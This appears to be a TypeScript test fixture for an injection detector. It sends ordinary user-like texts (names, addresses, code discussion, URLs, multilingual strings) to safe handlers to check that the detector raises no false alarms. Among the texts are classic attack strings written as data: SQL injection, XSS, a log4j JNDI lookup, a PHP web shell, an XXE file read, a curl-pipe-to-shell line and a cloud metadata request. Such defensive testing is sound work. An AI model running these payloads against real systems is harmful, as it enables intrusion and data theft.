// What people and machines really send: texts about code, names with apostrophes, formulas, addresses, documents in documents.
// Each goes to handlers that are written well, on one way after the other, and has to be answered as without the agent.
import { carry, plainWays, type RangeCase, type Way } from '../case.ts';

const texts: Readonly<Record<string, string>> = {
  // Names and addresses.
  irish: "O'Brien",
  possessive: "Dunkin' Donuts & Sons' Café",
  hawaiian: "Ka'ahumanu Pa‘ahana",
  double: 'Dwayne "The Rock" Johnson',
  nobiliary: "D'Arcy, Jean-Luc (II.)",
  email: "miles.o'brien+work@example.co.uk",
  mailto: 'Jane Doe <jane@example.org>; John <john@example.org>',
  phone: '+49 (0)30 / 1234-567 #8',
  postal: 'Apt. #4; 12/14 Main St. -- rear entrance',
  iban: 'DE89 3704 0044 0532 0130 00',
  // Writing about code.
  sqlPost: "To list users run SELECT * FROM users WHERE name = 'bob' OR 1=1; -- and never concatenate!",
  sqlFence:
    '```sql\nSELECT id, name FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 10 ORDER BY 1;\n```',
  sqlDrop: "Little Bobby Tables'); DROP TABLE students;-- is a joke",
  shellPost: 'Then `rm -rf node_modules && npm ci | tee log.txt` and $(pwd) is your folder; done',
  shellFence: '```sh\ncurl -fsSL https://example.com/install.sh | sh\nexport PATH="$HOME/bin:$PATH"\n```',
  jsPost: "Use `eval('1+1')` or new Function('return process.env')() with care; require('child_process').exec('ls')",
  htmlPost: '<script>alert(document.cookie)</script><img src=x onerror="alert(1)">',
  templatePost:
    'In EJS write <%= user.name %>, in Handlebars {{user.name}}, in Jinja {% for a in b %}{{ a }}{% endfor %}',
  angular: '{{constructor.constructor("alert(1)")()}}',
  log4j: '${jndi:ldap://example.com/a} was CVE-2021-44228',
  traceback:
    "TypeError: Cannot read properties of undefined (reading 'x')\n    at /srv/app/node_modules/a/index.js:10:5\n    at ../lib/b.js",
  diff: '--- a/src/index.js\n+++ b/src/index.js\n@@ -1,2 +1,2 @@\n-const a = require("../lib");\n+import a from "../lib.js";',
  dockerfile:
    'FROM node:24\nRUN apt-get update && apt-get install -y git; \\\n  rm -rf /var/lib/apt/lists/*\nCMD ["node", "app.js"]',
  makefile: 'all: $(OBJ)\n\t$(CC) -o $@ $^ `pkg-config --libs x`\n.PHONY: clean',
  nginx: 'location ~* \\.(php|asp)$ { return 301 https://$host$request_uri; }',
  phpinfo: '<?php system($_GET["cmd"]); ?> is how it used to be done',
  prototype: 'Never merge "__proto__" or "constructor.prototype" from JSON',
  xxePost: 'An entity: <!ENTITY xxe SYSTEM "file:///etc/passwd"> is expanded by old parsers',
  // Markup and data.
  markdown: "# Title\n\n- it's *bold* & **fast**\n- [link](../docs/readme.md#top) | `code`\n\n> quote -- end",
  html: '<p class="a">It&#39;s 5 &gt; 3 &amp;&amp; 2 &lt; 4</p><!-- note -->',
  svg: '<svg xmlns="http://www.w3.org/2000/svg"><path d="M10 10 L 20,20 Z"/></svg>',
  xml: '<?xml version="1.0"?><order id="7"><item qty="2">Rock \'n\' Roll</item></order>',
  yaml: "on:\n  push:\n    branches: [main]\njobs:\n  - run: npm test && echo 'ok' | cat",
  json: '{"query":{"$comment":"a","price":{"gte":10}},"sort":["-created","name"],"path":"../a"}',
  jsonTwice: JSON.stringify(JSON.stringify({ a: "it's", b: ['x;y', '../z'] })),
  graphql: 'query Q($id: ID!) { user(id: $id) { name, posts(first: 10, orderBy: "-date") { title } } }',
  csv: 'id,name,comment\n1,"O\'Brien, Pat","said ""hi""; left"\n2,=SUM(A1:A9),@cmd',
  ini: "[section]\nname = 'value' ; comment\npath = ../data/*.csv",
  toml: '[package]\nname = "x"\nversion = "1.0"\n[[bin]]\npath = "src/../main.rs"',
  css: '.a::before { content: "\\201C"; background: url(../img/a.png) } @media (min-width: 1px) and (x) {}',
  ics: 'BEGIN:VEVENT\nRRULE:FREQ=WEEKLY;BYDAY=MO,WE;UNTIL=20271231\nEND:VEVENT',
  vcard: "BEGIN:VCARD\nN:O'Neil;Shaquille;;;\nTEL;TYPE=cell:+1-555\nEND:VCARD",
  tex: '\\frac{a}{b} + \\sum_{i=0}^{n} x_i^2 \\% \\$5 & \\textbf{x}',
  base64: Buffer.from("plain text; with 'quotes' and ../dots $(x)").toString('base64'),
  image:
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJvJ2JyaWVuIiwic2NvcGUiOiJhIHx8IGIifQ.c2lnbmF0dXJl',
  hex: 'deadbeef 0xCAFEBABE #ff8800',
  uuid: '550e8400-e29b-41d4-a716-446655440000',
  packed: 'H4sIAAAAAAAAA8tIzcnJVyjPL8pJAQCFEUoNCwAAAA==',
  // Files and paths.
  dots: 'report..final.v2...pdf',
  relative: './docs/../images/logo.png',
  windows: 'C:\\Users\\bob\\..\\Public\\file.txt',
  unix: '/usr/local/share/doc/README',
  hidden: '.env.example',
  spaces: "Bob's file (copy) [1] & more.txt",
  glob: '**/*.{js,ts}',
  unc: '\\\\server\\share\\a',
  // Searches and formulas.
  boolean: '("machine learning" OR "deep learning") AND NOT (survey OR review)',
  google: 'site:example.com filetype:pdf -draft "exact phrase" intitle:a*b',
  lucene: 'title:(quick OR brown) AND date:[2020-01-01 TO *] && !x~2^4',
  math: '(1 + 2) * 3 - 4 / 5 % 6 = x^2; y <= |z| && !w',
  excel: '=IF(A1>10;"yes";VLOOKUP(B2,Sheet!$A$1:$C$9,2,FALSE))',
  regex: "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\\.[a-z]+)*)@\\w+\\.(com|org)$",
  cron: '*/5 0-6 1,15 * MON-FRI',
  range: '1-5,8,11-13',
  arrow: 'a -> b => c <= d >= e != f == g',
  percent: '100% sure; 5%20 is not a space %% and %s is a format',
  dollars: 'costs $5.00 (~€4.60), $$$ or ${price}',
  price: '19\' x 12" @ $3/ft',
  unionWord: 'Select Committee of the European Union and all from the table',
  orWord: 'this or that and 1 = one; insert coin, drop by, update later',
  like: "100% cotton LIKE new -- size 'M'",
  equals: "a='b' or c='d'",
  comment: 'see /* this */ and // that -- thanks',
  command: 'cat',
  commandLine: 'git commit -m "fix: it\'s done" && git push',
  option: '--help',
  keyword: 'select',
  constant: 'true',
  number: '-1.5e+10',
  nothing: 'null',
  // Addresses.
  url: 'https://example.com/a/b?x=1&y=%27z%27#frag',
  webhook: 'https://hooks.example.com/services/T00/B00/XXXX?wait=true',
  git: 'git@github.com:acme/repo.git',
  gitUrl: 'https://user:token@git.example.com/acme/repo.git#main',
  redirect: 'https://shop.example/login?next=https%3A%2F%2Fshop.example%2Fcart',
  localDocs: 'Open http://localhost:3000/docs or http://127.0.0.1:8080 in your browser',
  privateDocs: 'The router is at http://192.168.0.1/ and the NAS at 10.0.0.5',
  metadataDocs: 'curl http://169.254.169.254/latest/meta-data/ prints the role',
  magnet: 'magnet:?xt=urn:btih:c12fe1c06bba254a9dc9f519b335aa7c1367a88a&dn=a',
  ip: '203.0.113.9',
  ldapName: 'cn=Doe\\, Jane (Sales),ou=people,dc=example,dc=com',
  // Languages.
  german: 'Größe: „klein“ – Preis 5 €; s. S. 3 ff.',
  french: "L'été, c'est l'époque où j'achète des œufs à 2 €",
  russian: 'Привет; «мир» — Юля/Яна...',
  japanese: 'こんにちは；世界。（テスト）〜',
  chinese: '你好，世界！“引号”——破折号……',
  arabic: 'مرحبا؛ "العالم" (اختبار)،',
  hebrew: "צ'ק פוינט; ג׳ירפה",
  emoji: '👍🏽 it’s 100% 🔥; <3 :-) ¯\\_(ツ)_/¯',
  zalgo: 'Z̸a̶l̵g̷o̴ ..t̶e̷x̸t̵',
  wide: '５０％ＯＦＦ；ＡＬＬ　ＩＴＥＭＳ／ｓａｌｅ',
  nul: 'first\u0001second',
  long: "word it's ".repeat(400),
};

/** Handlers that are written well; the second is the class that would be wrong about it. */
const handlers: readonly (readonly [sink: string, guard: string])[] = [
  ['safeBound', 'sql-injection'],
  ['shellVariable', 'shell-injection'],
  ['ejsData', 'template-injection'],
  ['safeInsert', 'sql-injection'],
  ['argvPlain', 'argv-injection'],
  ['backendPost', 'ssrf'],
  ['safeEscaped', 'sql-injection'],
  ['shellEscaped', 'shell-injection'],
  ['safeArgument', 'code-injection'],
  ['safeBoundLike', 'sql-injection'],
  ['nunjucksData', 'template-injection'],
  ['backendItem', 'ssrf'],
  ['safeJson', 'code-injection'],
  ['argvStdin', 'argv-injection'],
  ['safeStripped', 'path-traversal'],
  ['safeSort', 'sql-injection'],
  ['shellConstant', 'shell-injection'],
  ['safeConstant', 'path-traversal'],
  ['argvGrep', 'argv-injection'],
  ['pugData', 'template-injection'],
  ['safeMap', 'path-traversal'],
  ['named', 'ssrf'],
  ['argvTool', 'argv-injection'],
  ['safeTemplate', 'code-injection'],
  ['handlebarsData', 'template-injection'],
];

/** Each text meets each handler; the ways take turns. */
export function ordinaryCases(): RangeCase[] {
  const ways: readonly Way[] = [...plainWays, 'base64', 'url', 'json-in-string'];
  const cases: RangeCase[] = [];
  let turn = 0;
  for (const [name, text] of Object.entries(texts)) {
    for (const [sink, guard] of handlers) {
      const way = ways[turn++ % ways.length]!;
      cases.push({ guard, sink, name: `${way}: ordinary ${name}`, request: carry(sink, text, way) });
    }
    turn++;
  }
  return cases;
}
